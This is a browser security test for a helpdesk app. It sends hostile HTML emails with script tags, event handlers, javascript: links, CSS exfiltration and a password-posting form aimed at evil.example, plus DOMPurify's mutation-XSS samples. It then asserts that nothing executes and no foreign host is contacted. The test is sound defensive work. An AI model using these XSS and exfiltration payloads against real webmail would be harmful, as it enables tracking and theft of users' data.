/**
 * Hostile emails in the agent's browser (issue 7): script tags, event handlers, javascript:
 * links, SVG with script, CSS exfiltration, forms, meta refresh and the 223 mutation-XSS
 * samples of DOMPurify's own test suite. Zero script executions, and zero requests to any host
 * but Mailroom's own, before and after "Show images" (which goes through the image proxy).
 */
import { readFileSync } from 'node:fs';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ApiClient } from '../helpers/api-client.js';
import { launchBrowser, signIn } from '../helpers/browser.js';
import { eventually } from '../helpers/mail.js';
import { ADMIN_PASSWORD, startRuntime, type TestRuntime } from '../helpers/runtime.js';

const EVIL = 'http://evil.example';
const NAMED: [string, string][] = [
  ['script tag', '<script>alert("script")</script><script src="http://evil.example/x.js"></script>'],
  ['event handlers', `<img src="x" onerror="alert('onerror')"><body onload="alert('onload')"><div onmouseover="alert('hover')">hover me</div>`],
  ['javascript: link', `<a href="javascript:alert('link')">click me</a><a href="JaVaScRiPt:alert('link2')">and me</a><a href="vbscript:msgbox(1)">vb</a>`],
  ['svg with script', `<svg><script>alert('svg')</script><circle r="5"/></svg><svg onload="alert('svg-onload')"></svg><svg><a xlink:href="javascript:alert('svg-link')"><text y="20">x</text></a></svg>`],
  ['css exfiltration', `<style>@import url(${EVIL}/import.css); body { background: url(${EVIL}/bg.png) } input[value^="a"] { background: url(${EVIL}/leak-a) }</style><p style="background-image: url('${EVIL}/inline.png')">styled</p><p style="background: u\\72l(${EVIL}/escaped.png)">escaped</p>`],
  ['forms', `<form action="${EVIL}/steal" method="post"><input name="password" value="secret"><button>Send</button></form><button formaction="${EVIL}/f">x</button>`],
  ['meta refresh and base', `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><base href="${EVIL}/"><a href="relative">relative</a>`],
  ['frames and objects', `<iframe src="${EVIL}/frame"></iframe><object data="${EVIL}/obj"></object><embed src="${EVIL}/embed"><link rel="stylesheet" href="${EVIL}/l.css">`],
  ['remote images', `<img src="${EVIL}/tracker.png" width="1" height="1"><img srcset="${EVIL}/a.png 1x"><video poster="${EVIL}/poster.png"></video><table background="${EVIL}/tbg.png"><tr><td>t</td></tr></table>`],
];

function htmlMail(subject: string, html: string): Buffer {
  return Buffer.from(
    [
      'From: Mallory <mallory@evil.example>',
      'To: support@example.com',
      `Subject: ${subject}`,
      `Message-ID: <${subject.replace(/\W+/g, '-')}-${Date.now()}@evil.example>`,
      'MIME-Version: 1.0',
      'Content-Type: text/html; charset=utf-8',
      'Content-Transfer-Encoding: base64',
      '',
      Buffer.from(`<html><body><h1>${subject}</h1>${html}<p>end of ${subject}</p></body></html>`).toString('base64').replace(/.{76}/g, '$&\r\n'),
      '',
    ].join('\r\n'),
  );
}

describe('hostile email in the browser', () => {
  let rt: TestRuntime;
  let browser: Browser;
  let page: Page;
  const requests: string[] = [];
  const dialogs: string[] = [];
  let conversationIds: number[] = [];

  beforeAll(async () => {
    rt = await startRuntime('pglite', { web: true });
    const admin = new ApiClient(rt.url);
    await admin.login('admin', ADMIN_PASSWORD);
    await admin.request('PUT', '/api/v1/config', {
      senders: [{ name: 'out', type: 'smtp', host: '127.0.0.1', port: 1, security: 'none', from: 'support@example.com' }],
      queues: [{ name: 'support', sender: 'out' }],
      mailboxes: [{ name: 'inbox', protocol: 'imap', host: '127.0.0.1', port: 1, security: 'none', auth: { user: 'support@example.com', password: 'x' }, queue: 'support', enabled: false }],
    });
    const mailboxId = (await admin.request('GET', '/api/v1/mailboxes')).body.items[0].id as number;
    const payloads = (JSON.parse(readFileSync('src/ingest/fixtures/dompurify-payloads.json', 'utf8')) as { payloads: { payload: string }[] }).payloads.map((p) => p.payload);
    const mails: Buffer[] = NAMED.map(([name, html]) => htmlMail(`Vector ${name}`, html));
    for (let i = 0; i < payloads.length; i += 25) mails.push(htmlMail(`DOMPurify samples ${i + 1}-${Math.min(payloads.length, i + 25)}`, payloads.slice(i, i + 25).map((p) => `<div class="sample">${p}</div>`).join('\n')));
    const { store } = rt.runtime.core;
    const keys = mails.map((_, i) => `hostile:${i}`);
    await store.transaction((r) =>
      r.inbound.commitBatch(mailboxId, { messages: mails.map((raw, i) => ({ key: keys[i]!, raw, internalDate: null })), position: { uidvalidity: 1, lastUid: mails.length, highestModseq: null, cursor: null }, reset: false }),
    );
    rt.runtime.mail.ingest.kick();
    const rows = await eventually(async () => {
      const r = await store.db.selectFrom('messages').select(['source_key', 'conversation_id', 'ingest_state']).where('source_key', 'in', keys).execute();
      return r.length === mails.length && r.every((x) => x.ingest_state !== 'received') ? r : null;
    }, 60_000, 'all hostile mails filed');
    // In the order of the mails, so NAMED[i] is conversationIds[i].
    conversationIds = keys.map((k) => rows.find((r) => r.source_key === k)?.conversation_id).filter((x): x is number => typeof x === 'number');
    expect(conversationIds).toHaveLength(mails.length);

    browser = await launchBrowser();
    page = await browser.newPage();
    page.on('request', (r) => requests.push(r.url()));
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    // Anything that runs in the app's own page would hit these.
    await page.addInitScript(() => {
      const w = window as unknown as { __executed: string[] };
      w.__executed = [];
      for (const name of ['alert', 'confirm', 'prompt', 'print'] as const) (window as unknown as Record<string, unknown>)[name] = (...args: unknown[]) => void w.__executed.push(`${name}(${args.join(',')})`);
    });
    await signIn(page, rt.url, 'admin', ADMIN_PASSWORD);
  });
  afterAll(async () => {
    await browser?.close();
    await rt?.close();
  });

  const foreign = () => requests.filter((u) => !u.startsWith(rt.url) && !u.startsWith('data:') && !u.startsWith('about:') && !u.startsWith('blob:'));

  it('renders every hostile mail without running a script or reaching another host', async () => {
    for (const [i, id] of conversationIds.entries()) {
      await page.goto(`${rt.url}/conversations/${id}`);
      const frame = page.frameLocator('iframe.email-frame');
      await frame.locator('h1').first().waitFor();
      // A named vector leaves the rest of its mail intact; a batch of samples may not (an
      // unclosed raw-text element swallows what follows, which is HTML parsing, not an attack).
      if (i < NAMED.length) await expect(frame.locator('body').textContent()).resolves.toMatch(/end of /);
      // The email is the body; the frame's head is ours (its CSP meta).
      const body = frame.locator('body');
      expect(await body.locator('script, iframe, object, embed, form, input, meta, link, base').count()).toBe(0);
      expect(await frame.locator('script, base').count()).toBe(0);
      expect(await frame.locator('[onerror], [onload], [onmouseover], [onclick]').count()).toBe(0);
      expect(await frame.locator('a[href^="javascript:" i], a[href^="vbscript:" i]').count()).toBe(0);
      // Hover and click what could react.
      for (const a of (await frame.locator('a, div, svg').all()).slice(0, 12)) await a.hover({ timeout: 300 }).catch(() => undefined);
      await frame.locator('a').first().click({ timeout: 1000, noWaitAfter: true }).catch(() => undefined);
    }
    await page.waitForTimeout(500);
    expect(dialogs).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { __executed: string[] }).__executed)).toEqual([]);
    expect(await page.title()).not.toMatch(/pwn|xss/i);
    expect(foreign()).toEqual([]);
    expect(requests.filter((u) => u.includes('/api/v1/image-proxy'))).toEqual([]);
  });

  it('after "Show images", remote images go only through the image proxy', async () => {
    const remote = conversationIds[NAMED.findIndex(([n]) => n === 'remote images')]!;
    await page.goto(`${rt.url}/conversations/${remote}`);
    await page.frameLocator('iframe.email-frame').locator('h1').first().waitFor();
    await page.getByRole('button', { name: /Show images/ }).click();
    await eventually(async () => requests.some((u) => u.includes('/api/v1/image-proxy?url=')), 10_000, 'a proxied image request');
    expect(requests.filter((u) => u.includes('/api/v1/image-proxy')).map((u) => decodeURIComponent(new URL(u).searchParams.get('url') ?? ''))).toContain(`${EVIL}/tracker.png`);
    expect(foreign()).toEqual([]);
    expect(dialogs).toEqual([]);
  });
});
